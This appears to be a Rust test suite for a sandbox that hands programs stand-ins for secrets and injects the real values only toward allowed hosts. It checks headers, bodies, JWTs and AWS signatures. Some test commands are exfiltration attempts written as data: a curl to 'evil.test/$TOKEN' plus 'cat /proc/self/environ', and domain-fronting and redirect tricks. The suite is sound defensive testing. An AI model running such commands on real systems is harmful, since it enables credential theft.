//! N23: secrets that the sandbox sees stand-ins of.

use super::internet::{Internet, online};
use super::{root, srt_settings, srt_with};
use crate::support::{Ran, World};
use serde_json::{Value, json};
use std::fs;

const REAL: &str = "sk-real-8f1d2c3b4a5968778695a4b3c2d1e0f9";

/// Settings that mask `TOKEN` and give it back toward `api.test`.
fn settings(world: &World) -> Value {
    let mut all = srt_settings(json!({
        "allowedDomains": ["api.test", "other.test"],
        "tlsTerminate": {"extraCaCertPaths": [root(world)]},
    }));
    all["credentials"] = json!({"envVars": [{"name": "TOKEN", "mode": "mask", "injectHosts": ["api.test"]}]});
    all
}

#[track_caller]
fn run(world: &World, settings: &Value, text: &str) -> Ran {
    let ran = srt_with(world, settings).var("TOKEN", REAL).opts(["-c", text]).go();
    ran.keeps_calm();
    assert!(!ran.out().contains(REAL) && !ran.err().contains(REAL), "the secret came inside{ran}");
    ran
}

/// The header of the latest request over TLS.
#[track_caller]
fn header(net: &Internet, name: &str) -> String {
    let seen = net.secured();
    let last = seen.last().expect("a request");
    last["headers"][name].as_str().unwrap_or_default().to_owned()
}

#[test]
fn a_stand_in_is_seen_and_the_secret_arrives() {
    online(|net, world| {
        net.secure();
        let settings = settings(world);
        let seen = run(world, &settings, "printf %s \"$TOKEN\"").out();
        assert!(seen.starts_with("fake_value_"), "{seen}");
        for version in ["--http1.1", "--http2"] {
            let text = format!("curl -sS {version} -H \"Authorization: Bearer $TOKEN\" https://api.test/v1");
            run(world, &settings, &text).exits(0);
            assert_eq!(header(net, "authorization"), format!("Bearer {REAL}"));
        }
        // Other headers, and bodies in both framings.
        run(world, &settings, "curl -sS -H \"X-Api-Key: $TOKEN\" https://api.test/v1").exits(0);
        assert_eq!(header(net, "x-api-key"), REAL);
        for more in ["", "-H 'Transfer-Encoding: chunked' --http1.1"] {
            let text = format!("curl -sS {more} -d \"{{\\\"key\\\": \\\"$TOKEN\\\"}}\" https://api.test/v1");
            run(world, &settings, &text).exits(0);
            let body = net.secured().last().unwrap()["body"].as_str().unwrap().to_owned();
            assert_eq!(body, format!("{{\"key\": \"{REAL}\"}}"), "{more}");
        }
        // Basic authentication hides it in base64.
        run(world, &settings, "curl -sS -u \"user:$TOKEN\" https://api.test/v1").exits(0);
        assert_eq!(header(net, "authorization"), format!("Basic {}", base64(&format!("user:{REAL}"))));
    });
}

/// As every client writes it.
fn base64(text: &str) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for group in text.as_bytes().chunks(3) {
        let bits =
            group.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
        for place in 0..4 {
            let letter = LETTERS[(bits >> (18 - 6 * place) & 63) as usize];
            out.push(if place <= group.len() { char::from(letter) } else { '=' });
        }
    }
    out
}

#[test]
fn it_goes_to_nobody_else() {
    online(|net, world| {
        net.secure();
        let wire = net.wire();
        let settings = settings(world);
        for url in ["https://other.test/", "http://api.test/", "http://api.test:8080/", "http://other.test/"]
        {
            run(
                world,
                &settings,
                &format!("curl -sS -H \"Authorization: Bearer $TOKEN\" -d \"$TOKEN\" {url}"),
            );
        }
        // After a redirect the client itself may carry the header on.
        let text = "curl -sS -L --location-trusted -H \"Authorization: Bearer $TOKEN\" \
                    'https://api.test/redirect?to=https://other.test/after'";
        run(world, &settings, text);
        // Fronting: the connection is to the one, the request to the other.
        run(world, &settings, "curl -sS -H 'Host: api.test' -H \"X: $TOKEN\" https://other.test/");
        run(
            world,
            &settings,
            "curl -sS --connect-to api.test:443:other.test:443 -H \"X: $TOKEN\" https://api.test/",
        );
        assert_eq!(wire.carried(REAL), 0, "the secret left in the clear");
        for request in net.requests() {
            assert!(!format!("{request:?}").contains(REAL), "{request:?}");
        }
        let seen = net.secured();
        let strangers = seen.iter().filter(|row| row["sni"] != "api.test");
        for row in strangers {
            assert!(!row.to_string().contains(REAL), "{row:#}");
        }
        assert!(seen.iter().any(|row| row["target"] == "/after"), "the redirect was not followed: {seen:#?}");
        // The control: the host it is for did get it, before the redirect.
        assert!(
            seen.iter().any(|row| row["sni"] == "api.test" && row.to_string().contains(REAL)),
            "{seen:#?}"
        );
    });
}

#[test]
fn in_the_clear_only_where_allowed() {
    online(|net, world| {
        let mut settings = srt_settings(json!({"allowedDomains": ["api.test", "other.test"]}));
        settings["credentials"] = json!({
            "envVars": [{"name": "TOKEN", "mode": "mask", "injectHosts": ["api.test"]}],
            "allowPlaintextInject": true,
        });
        for url in ["http://api.test/", "http://other.test/"] {
            for proxy in ["", "--noproxy '*'"] {
                run(world, &settings, &format!("curl -sS {proxy} -H \"X-Key: $TOKEN\" {url}")).exits(0);
            }
        }
        let keys: Vec<(String, bool)> = net
            .requests()
            .iter()
            .map(|row| (row.header("host").to_owned(), row.header("x-key") == REAL))
            .collect();
        let expected = [("api.test", true), ("api.test", true), ("other.test", false), ("other.test", false)];
        assert_eq!(keys, expected.map(|(host, real)| (host.to_owned(), real)));
    });
}

#[test]
fn no_record_holds_it() {
    online(|net, world| {
        net.secure();
        let settings = settings(world);
        let ran = srt_with(world, &settings)
            .opt("-d")
            .var("TOKEN", REAL)
            .opts([
                "-c",
                "curl -sS -H \"X: $TOKEN\" https://api.test/ https://evil.test/$TOKEN; cat /proc/self/environ",
            ])
            .go();
        assert!(!ran.out().contains(REAL) && !ran.err().contains(REAL), "{ran}");
        assert_eq!(header(net, "x"), REAL);
        let mut places = vec![world.home.clone()];
        while let Some(place) = places.pop() {
            for entry in fs::read_dir(place).unwrap().flatten() {
                let path = entry.path();
                if path.is_dir() {
                    places.push(path);
                } else if let Ok(bytes) = fs::read(&path) {
                    assert!(
                        !String::from_utf8_lossy(&bytes).contains(REAL),
                        "{} holds the secret",
                        path.display()
                    );
                }
            }
        }
    });
}

#[test]
fn files_and_denials() {
    online(|net, world| {
        net.secure();
        let file = world
            .file(world.home.join("token.json"), format!("{{\"user\": \"me\", \"token\": \"{REAL}\"}}\n"));
        let kept = world.file(world.home.join("other.txt"), REAL);
        let mut settings = settings(world);
        settings["credentials"] = json!({
            "envVars": [{"name": "TOKEN", "mode": "deny"}],
            "files": [
                {"path": file, "mode": "mask", "extract": "\"token\": \"([^\"]+)\"", "injectHosts": ["api.test"]},
                {"path": kept, "mode": "deny"},
            ],
        });
        assert_eq!(run(world, &settings, "printf %s \"${TOKEN-unset}\"").out(), "unset");
        let text = format!("cat {}", file.display());
        let seen = run(world, &settings, &text).out();
        assert!(seen.starts_with("{\"user\": \"me\", \"token\": \"fake_value_"), "{seen}");
        assert_ne!(run(world, &settings, &format!("cat {}", kept.display())).code(), 0);
        let text = format!(
            "curl -sS -H \"X: $(sed 's/.*token\": \"//; s/\".*//' {})\" https://api.test/",
            file.display()
        );
        run(world, &settings, &text).exits(0);
        assert_eq!(header(net, "x"), REAL);
    });
}

/// Three parts, of which the last is the signature.
const JWT: &str =
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJtZSIsInNlY3JldCI6ImhpZGRlbi1jbGFpbSJ9.c2lnbmF0dXJlLXRoYXQtaXMtcmVhbA";

#[test]
fn web_tokens_keep_their_shape() {
    online(|net, world| {
        net.secure();
        let mut settings = settings(world);
        let variable = json!({"name": "JWT", "mode": "mask", "decode": "jwt", "maskClaims": ["secret"], "injectHosts": ["api.test"]});
        settings["credentials"] = json!({"envVars": [variable]});
        let run = |text: &str| srt_with(world, &settings).var("JWT", JWT).opts(["-c", text]).go();
        let ran = run(
            "printf %s \"$JWT\" | cut -d. -f2 | tr '_-' '/+' | base64 -d 2>/dev/null; echo; printf %s \"$JWT\" | tr -cd . | wc -c",
        );
        let said = ran.out();
        assert!(said.contains("\"sub\":\"me\"") && !said.contains("hidden-claim"), "{ran}");
        assert_eq!(said.lines().last(), Some("2"), "{ran}");
        assert!(!run("printf %s \"$JWT\"").out().contains("c2lnbmF0dXJlLXRoYXQtaXMtcmVhbA"));
        run("curl -sS -H \"Authorization: Bearer $JWT\" https://api.test/").exits(0);
        assert_eq!(header(net, "authorization"), format!("Bearer {JWT}"));
        run("curl -sS -H \"Authorization: Bearer $JWT\" https://other.test/").exits(0);
        assert!(!header(net, "authorization").contains("c2lnbmF0dXJlLXRoYXQtaXMtcmVhbA"));
    });
}

/// Without claims that are named nothing of it is seen, neither inside nor in what a server sends back.
#[test]
fn web_tokens_are_hidden_whole() {
    online(|net, world| {
        net.secure();
        let mut settings = settings(world);
        let file = world.file(world.home.join("token.txt"), format!("token: {JWT}\n"));
        let rules = json!({"mode": "mask", "decode": "jwt", "injectHosts": ["api.test"]});
        let [mut variable, mut path] = [rules.clone(), rules];
        (variable["name"], path["path"]) = (json!("JWT"), json!(file));
        settings["credentials"] = json!({"envVars": [variable], "files": [path]});
        let run = |text: &str| srt_with(world, &settings).var("JWT", JWT).opts(["-c", text]).go();
        let from_file = format!("$(sed 's/token: //' {})", file.display());
        for token in ["$JWT", &from_file] {
            let ran = run(&format!(
                "T=\"{token}\"; P=$(echo \"$T\" | cut -d. -f2); \
                 echo \"$P===\" | tr '_-' '/+' | base64 -d 2>/dev/null; echo; echo \"$T\" | tr -cd . | wc -c; echo \"$T\""
            ));
            let said = ran.out();
            assert!(said.contains("\"sub\":\"fake_value_") && !said.contains("hidden-claim"), "{ran}");
            assert!(JWT.split('.').skip(1).all(|part| !said.contains(part)), "{ran}");
            assert_eq!(said.lines().nth(1), Some("2"), "{ran}");
            let ran =
                run(&format!("curl -sS -H \"Authorization: Bearer {token}\" https://api.test/last-part"));
            assert_eq!(header(net, "authorization"), format!("Bearer {JWT}"));
            assert!(ran.out().starts_with("xfake_value_"), "{ran}");
        }
    });
}

/// curl signs by itself; the server recomputes with the real key.
#[test]
fn requests_are_signed_anew() {
    online(|net, world| {
        net.secure();
        let (id, key) = ("AKIAREALREALREALREAL", "real+secret/key0000000000000000000000000");
        let mut settings = settings(world);
        let variable = |name: &str| json!({"name": name, "mode": "mask", "injectHosts": ["api.test"]});
        settings["credentials"] = json!({
            "envVars": [variable("AWS_ACCESS_KEY_ID"), variable("AWS_SECRET_ACCESS_KEY")],
            "awsPairs": [{"accessKeyId": "AWS_ACCESS_KEY_ID", "secretAccessKey": "AWS_SECRET_ACCESS_KEY"}],
            "sigv4": {},
        });
        let send = |host: &str| {
            let text = format!(
                "curl -sS --http1.1 --aws-sigv4 aws:amz:us-east-1:service -u \"$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY\" \
                 -H 'content-type: text/plain' -d body 'https://{host}/bucket/item'"
            );
            let ran = srt_with(world, &settings)
                .var("AWS_ACCESS_KEY_ID", id)
                .var("AWS_SECRET_ACCESS_KEY", key)
                .opts(["-c", &text])
                .go();
            ran.exits(0);
            assert!(!ran.out().contains(key) && !ran.err().contains(key));
            net.secured().pop().expect("a request")
        };
        let row = send("api.test");
        assert!(is_signed(&row, key), "{row:#}");
        assert!(row["headers"]["authorization"].as_str().unwrap().contains(id), "{row:#}");
        let row = send("other.test");
        assert!(!row.to_string().contains(id), "{row:#}");
        assert!(!is_signed(&row, key), "signed with the real key for a stranger");
    });
}

/// Whether a request's signature was made with a key.
fn is_signed(row: &Value, key: &str) -> bool {
    let checked =
        std::process::Command::new("python3").args(["-c", SIGV4, key, &row.to_string()]).output().unwrap();
    match checked.stdout.as_slice() {
        b"good\n" => true,
        b"bad\n" => false,
        _ => panic!("{row:#}{}", String::from_utf8_lossy(&checked.stderr)),
    }
}

const SIGV4: &str = r#"
import hashlib, hmac, json, re, sys
key, row = sys.argv[1], json.loads(sys.argv[2])
head = row['headers']
scope, signed, given = re.search(r'Credential=[^/]+/(\S+?),\s*SignedHeaders=(\S+?),\s*Signature=(\w+)', head['authorization']).groups()
body = row['body'].encode('latin1')
digest = head.get('x-amz-content-sha256') or hashlib.sha256(body).hexdigest()
lines = ''.join('%s:%s\n' % (name, ' '.join(head[name].split())) for name in signed.split(';'))
canonical = '\n'.join([row['method'], row['target'], '', lines, signed, digest])
text = '\n'.join(['AWS4-HMAC-SHA256', head['x-amz-date'], scope, hashlib.sha256(canonical.encode()).hexdigest()])
sign = ('AWS4' + key).encode()
for part in scope.split('/'):
    sign = hmac.new(sign, part.encode(), hashlib.sha256).digest()
print('good' if hmac.new(sign, text.encode(), hashlib.sha256).hexdigest() == given else 'bad')
"#;
